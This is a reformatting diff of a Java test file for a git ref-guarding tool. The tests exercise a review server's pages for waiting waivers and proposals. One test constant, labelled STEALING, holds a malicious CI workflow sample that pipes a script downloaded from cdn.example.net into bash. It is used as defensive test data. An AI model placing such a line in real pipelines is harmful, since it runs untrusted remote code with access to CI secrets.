@@ -33,8 +33,8 @@ import org.junit.jupiter.api.io.TempDir;
 class InboxTest {
     private static final String MAIN = "refs/heads/main";
     private static final String TOKEN = "the-token-of-these-tests-0123456789";
-    private static final String STEALING = "on: push\njobs:\n  x:\n    steps:\n"
-            + "      - run: curl -s https://cdn.example.net/i.sh | bash\n";
+    private static final String STEALING =
+            "on: push\njobs:\n  x:\n    steps:\n" + "      - run: curl -s https://cdn.example.net/i.sh | bash\n";
     private static final int MISTAKES = 60;
 
     @TempDir
@@ -76,7 +76,8 @@ class InboxTest {
         org.later(Duration.ofDays(1));
         for (int i = 0; i < MISTAKES; i++) {
             org.later(Duration.ofHours(2));
-            push("bob", "10.0.0.8", "lib", work("bob", "lib").file("f" + i, "x\n")).orElseThrow();
+            push("bob", "10.0.0.8", "lib", work("bob", "lib").file("f" + i, "x\n"))
+                    .orElseThrow();
         }
         ledger = Ledger.in(org.state());
         server = new ReviewServer(
@@ -156,22 +157,28 @@ class InboxTest {
         assertThat(page("/waiting")).contains("Asked for: 0", "Brought to be approved: 0");
         org.later(Duration.ofHours(3));
         org.option("ask=waiver");
-        String asking = push("bob", "10.0.0.8", "lib", work("bob", "lib").file("asked", "x\n")).orElseThrow();
+        String asking = push("bob", "10.0.0.8", "lib", work("bob", "lib").file("asked", "x\n"))
+                .orElseThrow();
         org.at(Instant.now().minus(Duration.ofMinutes(2)).toString());
-        String proposed = work("alice", "app").signed("alice").file("new", "x\n").make();
+        String proposed =
+                work("alice", "app").signed("alice").file("new", "x\n").make();
         assertThat(org.push("alice", "10.0.0.7", "app", Map.of("refs/refwarden/proposals/" + proposed, proposed)))
                 .isEmpty();
         String page = page("/waiting");
         assertThat(page)
                 .contains("Asked for: 1", "bob asks for a waiver", "git refwarden-waive " + asking)
-                .contains("Brought to be approved: 1", "by alice", "git refwarden-approve REF " + proposed.substring(0, 12))
+                .contains(
+                        "Brought to be approved: 1",
+                        "by alice",
+                        "git refwarden-approve REF " + proposed.substring(0, 12))
                 .doesNotContain("class=\"remark\"");
         assertThat(page("/waiting.json"))
                 .startsWith("{\"schema\":\"refwarden.waiting/1\",\"asked\":[{\"what\":\"waiver\",\"who\":\"bob\"")
                 .contains("\"proposed\":[{\"repository\":\"app\",\"id\":\"" + proposed);
 
         Files.move(root.resolve("git/app.git"), root.resolve("git/gone.git"));
-        assertThat(page("/waiting")).contains("Asked for: 1", "Brought to be approved: 0", "Not looked into", ": app. There");
+        assertThat(page("/waiting"))
+                .contains("Asked for: 1", "Brought to be approved: 0", "Not looked into", ": app. There");
         org.write("config/policy.yaml", "version: 1\nrepositories: nonsense\n");
         assertThat(page("/waiting")).contains("Asked for: 1", "The configuration has errors");
     }
